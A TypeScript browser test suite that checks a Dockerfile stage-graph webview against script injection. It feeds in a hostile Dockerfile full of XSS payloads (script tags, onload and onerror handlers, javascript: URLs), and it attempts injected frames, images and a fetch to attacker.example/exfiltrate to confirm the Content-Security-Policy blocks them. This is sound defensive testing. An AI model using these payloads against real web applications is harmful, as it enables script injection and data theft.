// Webview safety (issue 9): what a Dockerfile puts in the stage graph is text, whatever markup or
// script it carries. graph.test.ts checks hand-made hostile graphs and the absence of CSP
// violations; this file starts from a hostile Dockerfile, asserts the policy Chromium enforces
// (not only the one written), that nothing loads from elsewhere, and that the SVG export is inert
// and well-formed whatever characters the names hold.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { DocumentModel } from '../../server/src/analysis/documentModel';
import { buildStageGraph } from '../../server/src/analysis/stageGraph';
import type { StageGraph } from '../../server/src/protocol/stageGraph';
import { launchBrowser, WebviewPage, type Browser } from './harness';

const hostileDockerfile = [
  'ARG EVIL="<img src=x onerror=window.__pwned=1>"',
  'FROM alpine:3.20 AS <script>window.__pwned=2</script>',
  'LABEL description="<script>window.__pwned=3</script>" org.example.html="<b onmouseover=window.__pwned=4>x</b>"',
  'FROM "><svg/onload=window.__pwned=5> AS svg',
  'COPY --from=<iframe/src=javascript:window.__pwned=6> / /',
  'RUN --mount=type=cache,from=<a/href=javascript:window.__pwned=7>,target=/cache true',
  'FROM ${EVIL} AS <img/src=https://attacker.example/beacon.png>',
  'COPY --from=<script>window.__pwned=2</script> /app /app',
  // Control characters, which XML allows in no form: the export shows them as their pictures.
  'FROM alpine:3.20 AS ctl\u0001\u001b[2J\u007f\u0085',
  '',
].join('\n');

const hostileGraph: StageGraph = buildStageGraph(new DocumentModel('file:///work/evil/Dockerfile', 1, hostileDockerfile));
const message = { type: 'graph', document: { uri: 'file:///work/evil/Dockerfile', name: '<b>Dockerfile</b>' }, graph: hostileGraph, direction: 'TB' } as const;
const webviewOrigin = 'https://webview.test';

describe('stage graph webview security', () => {
  let browser: Browser;

  before(async () => {
    browser = await launchBrowser();
  });
  after(() => browser.close());

  test('the hostile Dockerfile yields names full of markup, as the test needs', () => {
    const names = [...hostileGraph.stages.map((stage) => `${stage.name} ${stage.baseImage}`), ...hostileGraph.images.map((image) => image.name)].join(' ');
    for (const markup of ['<script>', '<svg/onload', '<iframe', '<a/href=javascript:', '<img/src=https:']) assert.ok(names.includes(markup), `a name carries ${markup}`);
  });

  test('names and labels carrying HTML and script are drawn as text: nothing runs, no element or request comes from them', async () => {
    const webview = await WebviewPage.open(browser);
    const requests: string[] = [];
    webview.page.on('request', (request) => requests.push(request.url()));
    try {
      await webview.send(message);
      const page = webview.page;
      assert.equal(await page.locator('svg.graph .node.stage').count(), hostileGraph.stages.length);
      // Hovering and focusing every node would fire any handler a name had smuggled in.
      for (const node of await page.locator('svg.graph .node').all()) {
        await node.hover();
        await node.focus();
      }
      assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined, 'no script from the Dockerfile ran');
      assert.equal(await page.locator('script:not([src]), iframe, img, a, foreignObject, svg svg, b').count(), 0, 'no element came from a name');
      const handlers = await page.evaluate(() => Array.from(document.querySelectorAll('*')).flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on'))));
      assert.deepEqual(handlers, [], 'no event handler attribute');
      const labels = await page.locator('svg.graph .node.stage').evaluateAll((nodes) => nodes.map((node) => node.getAttribute('aria-label') ?? ''));
      assert.ok(labels.some((label) => label.includes('<script>window.__pwned=2</script>')), 'the name is there, as text');
      assert.deepEqual(await webview.violations(), []);
      assert.deepEqual(
        requests.filter((url) => !url.startsWith(`${webviewOrigin}/`)),
        [],
        'every request went to the webview origin',
      );
      assert.deepEqual(webview.consoleErrors, []);
    } finally {
      await webview.close();
    }
  });

  test('Chromium enforces the policy: nothing by default, only the nonce script; injected script, frames, images and connections are blocked', async () => {
    const webview = await WebviewPage.open(browser);
    try {
      const page = webview.page;
      const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
      assert.ok(policy);
      const directives = new Map(policy.split(';').map((directive) => directive.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
      assert.deepEqual(directives.get('default-src'), ["'none'"]);
      assert.deepEqual(directives.get('style-src'), [webviewOrigin], 'styles only from the bundle');
      const scripts = directives.get('script-src') ?? [];
      assert.equal(scripts.length, 1);
      assert.match(scripts[0], /^'nonce-[A-Za-z0-9+/]{22}=='$/);
      const nonce = await page.locator('script[src]').evaluate((script) => (script as HTMLScriptElement).nonce);
      assert.equal(scripts[0], `'nonce-${nonce}'`, 'the one script carries the page nonce');
      assert.doesNotMatch(policy, /unsafe-inline|unsafe-eval|unsafe-hashes|\*|https?:\/\/(?!webview\.test)|data:|blob:/);

      const outcome = await page.evaluate(async () => {
        const injected = document.createElement('script');
        injected.textContent = 'window.__injected = true;';
        document.body.append(injected);
        const frame = document.createElement('iframe');
        frame.src = 'https://attacker.example/';
        document.body.append(frame);
        const image = document.createElement('img');
        image.src = 'https://attacker.example/pixel.png';
        document.body.append(image);
        let fetched = true;
        try {
          await fetch('https://attacker.example/exfiltrate');
        } catch {
          fetched = false;
        }
        await new Promise((resolve) => setTimeout(resolve, 100));
        return { injected: (window as unknown as { __injected?: boolean }).__injected === true, fetched };
      });
      // (Code the test evaluates through DevTools is exempt from the policy's eval rules; the policy
      // text above, without 'unsafe-eval', is what keeps strings from running as code.)
      assert.deepEqual(outcome, { injected: false, fetched: false });
      const blocked = new Set((await webview.violations()).map((violation) => violation.directive));
      for (const directive of ['script-src-elem', 'frame-src', 'img-src', 'connect-src']) assert.ok(blocked.has(directive), `${directive} was enforced`);
    } finally {
      await webview.close();
    }
  });

  test('the SVG export of the hostile graph is inert: no script, handler, foreign content or outside reference', async () => {
    const webview = await WebviewPage.open(browser);
    try {
      await webview.send(message);
      const sent = (await webview.posted()).length;
      await webview.chooseExport('SVG');
      const { svg } = await webview.waitForPosted('exportSvg', sent);
      const exported = await webview.page.evaluate((text) => {
        const parsed = new DOMParser().parseFromString(text, 'image/svg+xml');
        const elements = Array.from(parsed.querySelectorAll('*'));
        return {
          error: parsed.querySelector('parsererror')?.textContent ?? null,
          tags: [...new Set(elements.map((element) => element.localName))],
          handlers: elements.flatMap((element) => element.getAttributeNames().filter((name) => name.toLowerCase().startsWith('on'))),
          references: elements.flatMap((element) => ['href', 'xlink:href', 'src'].map((name) => element.getAttribute(name)).filter((value): value is string => value !== null)),
          texts: Array.from(parsed.querySelectorAll('text, title'), (node) => node.textContent ?? ''),
        };
      }, svg);
      assert.equal(exported.error, null, 'the export parses as SVG');
      for (const tag of ['script', 'foreignObject', 'iframe', 'img', 'a', 'image', 'use']) assert.ok(!exported.tags.includes(tag), `no <${tag}>`);
      assert.deepEqual(exported.handlers, []);
      assert.deepEqual(
        exported.references.filter((reference) => !reference.startsWith('#')),
        [],
        'only references inside the file',
      );
      assert.ok(exported.texts.some((text) => text.includes('<script>')), 'the names are kept, as text');
      assert.ok(exported.texts.some((text) => text.includes('ctl\u2401\u241b[2J\u2421\ufffd')), 'control characters are shown as pictures');
    } finally {
      await webview.close();
    }
  });
});
